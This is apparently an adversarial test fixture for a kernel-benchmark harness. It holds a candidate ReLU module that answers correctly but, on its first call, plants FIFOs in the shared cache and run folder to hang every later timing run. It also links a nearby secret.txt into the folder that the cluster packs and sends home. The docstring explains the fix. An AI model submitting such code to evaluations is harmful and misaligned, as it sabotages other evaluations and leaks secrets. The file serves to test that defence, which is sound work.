"""Exploit (a FIFO or a link where another evaluation reads): run with --no-sandbox, the
candidate can write where every evaluation on the machine reads, the shared cache
(KFORGE_CACHE) and its own run folder, which `kforge bench --cluster` packs and sends home.
On its first call it puts a FIFO in place of the CPU timing lock (locks/cpu.lock), of the
cached CPU probe (cpu_peaks.v3.json) and of this problem's cached torch.compile figure
(baselines/KEY.json, its name computed as the parent computes it), FIFOs in its run folder
(where the parent copies the profile's trace, and one more) and a link to the file
`secret.txt` beside the cache, then answers correctly. An open() of a FIFO waits for a
writer: the timing of this very evaluation, and of every later one, blocked for good; a link
was followed. Now each of those reads goes through safe_open (no FIFO waited on, no link
followed) and the trace is written anew: the plant is ignored or replaced. In the sandbox
none of these places is in reach: what it plants lands in its own folders."""
import hashlib
import json
import os

import torch
import torch.nn as nn

from kforge_nb.runtime import cpp

source = r"""
#include <cstdint>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
"""

kernels = cpp.load(source)
RUN = os.path.dirname(os.path.abspath(__file__))      # its run folder: candidate.py is there


def plant_fifo(path: str) -> None:
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path)
    except OSError:
        pass             # not in reach here (the sandbox): nothing planted


def baseline_key(device: str = "cpu") -> str:
    """The name the parent reads this problem's cached torch.compile figure under
    (figures.cached_baselines): the problem's source is reference.py of the run folder."""
    with open(os.path.join(RUN, "reference.py"), encoding="utf-8") as f:
        problem_source = f.read()
    knobs = sorted((k, v) for k, v in os.environ.items() if k.startswith("KFORGE_")
                   and k != "KFORGE_CACHE")
    return hashlib.sha256(json.dumps(["side-by-side", problem_source, device,
                                      torch.__version__, knobs, ""]).encode()).hexdigest()[:20]


def plant() -> None:
    cache = os.environ.get("KFORGE_CACHE") or os.path.expanduser("~/.cache/kforge-nb")
    os.makedirs(os.path.join(cache, "locks"), exist_ok=True)
    plant_fifo(os.path.join(cache, "locks", "cpu.lock"))
    plant_fifo(os.path.join(cache, "cpu_peaks.v3.json"))
    os.makedirs(os.path.join(cache, "baselines"), exist_ok=True)
    plant_fifo(os.path.join(cache, "baselines", baseline_key() + ".json"))
    plant_fifo(os.path.join(RUN, "trace.json"))      # where the parent copies its profile
    plant_fifo(os.path.join(RUN, "pending.log"))     # what a cluster's worker packs
    try:
        os.symlink(os.path.join(os.path.dirname(os.path.abspath(cache)), "secret.txt"),
                   os.path.join(RUN, "kept.txt"))
    except OSError:
        pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.planted = False

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if not self.planted:
            plant()
            self.planted = True
        x = x.contiguous()
        y = torch.empty_like(x)
        kernels.relu(x, y, x.numel())
        return y
